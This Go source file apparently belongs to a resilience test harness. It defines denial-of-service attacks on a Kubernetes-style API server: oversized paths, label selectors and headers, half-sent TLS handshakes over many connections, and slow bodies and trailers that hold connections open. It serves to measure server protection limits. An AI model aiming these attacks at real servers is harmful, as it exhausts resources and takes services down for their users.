package main

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
)

// attack is what attackers send over their connections.
type attack struct {
	name                   string
	connections, addresses int
	raw                    string // sent without TLS; "": requests
	token                  string // of each request: randomToken; "": none
	administrator          bool   // the attackers have the administrator's token
	request                func() malicious
}

// malicious is a request of an attacker.
type malicious struct {
	method   string // "": GET
	target   string
	headers  int // bytes of short headers
	trailers int // bytes of short names of trailers
	body     int // bytes
}

const randomToken = "random"

// random returns a text that no other request has.
func random() string { return fmt.Sprintf("%s-%x", mark, rand.Uint64()) }

func path(size int, query string) func() malicious {
	padding := strings.Repeat("x", size)
	return func() malicious { return malicious{target: "/" + random() + padding + query} }
}

func selector(text string) func() malicious {
	return func() malicious { return malicious{target: allPods + "?labelSelector=" + text} }
}

func headers(headers, body int) func() malicious {
	return func() malicious { return malicious{target: allPods + "?" + random(), headers: headers, body: body} }
}

// attacks returns those that were shown to harm servers, at and above the limits of kube-vitals.
func attacks() (list []attack) {
	requirements := func(size int) string { return strings.Repeat("a,", size/2) + "a" }
	values := "a+in+(" + strings.Repeat(strings.Repeat("v", 60)+",", 990) + "a)"
	handshake := "\x16\x03\x01\x02\x00\x01\x00\x01\xfc" + strings.Repeat("x", 71) // more should come
	list = []attack{
		{name: "paths of 1000 KiB", connections: 8, addresses: 1, request: path(1000<<10, "?timeout=1ns")},
		{name: "paths that are not UTF-8", connections: 8, addresses: 10, request: path(0, "%ff?timeout=1ns")},
		{name: "selectors of 1000 KiB", connections: 64, addresses: 1, request: selector(requirements(1000 << 10))},
		{name: "80 bytes of a handshake", connections: 128, addresses: 9, raw: handshake},
		{name: "80 bytes of a handshake, 2000 connections", connections: 2000, addresses: 10, raw: handshake},
		{name: "headers of 1 MiB, bodies", connections: 62, addresses: 1, request: headers(1000<<10, 256<<10)},
		{name: "bodies of a flag that do not come", connections: 600, addresses: 1, request: func() malicious {
			return malicious{method: http.MethodPut, target: "/debug/flags/v", headers: 120 << 10, body: 49}
		}},
		{name: "trailers", connections: 600, addresses: 1, request: func() malicious {
			return malicious{target: "/" + random(), trailers: 120 << 10, body: 1}
		}},
		{name: "list by the administrator, bodies", connections: 62, addresses: 10, administrator: true,
			request: func() malicious { return malicious{target: allNodes + "?limit=1", headers: 48 << 10, body: 200 << 10} }},
	}
	for _, addresses := range []int{1, 10} {
		for _, token := range []string{"", randomToken} {
			name := fmt.Sprintf("%d addresses, token %q: ", addresses, token)
			for _, r := range []struct {
				name    string
				request func() malicious
			}{
				{"paths of 7 KiB", path(7<<10, "?%74imeout=1ns&a;b")},
				{"selectors of 60 KiB", selector(requirements(60 << 10))},
				{"selectors of 991 values", selector(values)},
				{"headers of 48 KiB", headers(48<<10, 0)},
				{"bodies", headers(0, 200<<10)},
			} {
				list = append(list, attack{name: name + r.name, connections: 300, addresses: addresses,
					token: token, request: r.request})
			}
		}
	}
	return list
}

// requester sends requests of an attacker over one connection.
type requester struct {
	token string
	sent  *atomic.Int64
}

func (r *requester) authorization() string {
	if r.token == randomToken {
		return random()
	}
	return r.token
}

// pipeline sends requests until the connection ends.
func (r *requester) pipeline(ctx context.Context, conn net.Conn, next func() malicious) {
	in := bufio.NewReader(conn)
	for ctx.Err() == nil {
		request := next()
		var text bytes.Buffer
		fmt.Fprintf(&text, "%s %s HTTP/1.1\r\nHost: localhost\r\n", cmp.Or(request.method, http.MethodGet), request.target)
		if token := r.authorization(); token != "" {
			fmt.Fprintf(&text, "Authorization: Bearer %s\r\n", token)
		}
		for i := 0; i < request.headers/20; i++ {
			fmt.Fprintf(&text, "X-%07d: yyyyyyy\r\n", i)
		}
		switch { // of a body, one byte does not come
		case request.trailers > 0:
			text.WriteString("Transfer-Encoding: chunked\r\nTrailer: x")
			for i := 0; i < request.trailers/4; i++ {
				fmt.Fprintf(&text, ",%c%c%c", 'a'+i%26, 'a'+i/26%26, 'a'+i/26/26%26)
			}
			fmt.Fprintf(&text, "\r\n\r\n%x", request.body+1)
		case request.body > 0:
			fmt.Fprintf(&text, "Content-Length: %d\r\n", request.body+1)
		}
		text.WriteString("\r\n")
		text.Write(make([]byte, request.body))
		if _, err := conn.Write(text.Bytes()); err != nil {
			return
		}
		r.sent.Add(1)
		response, err := http.ReadResponse(in, nil)
		if err != nil {
			return
		}
		_, err = io.Copy(io.Discard, response.Body)
		if response.Body.Close() != nil || err != nil {
			return
		}
	}
}
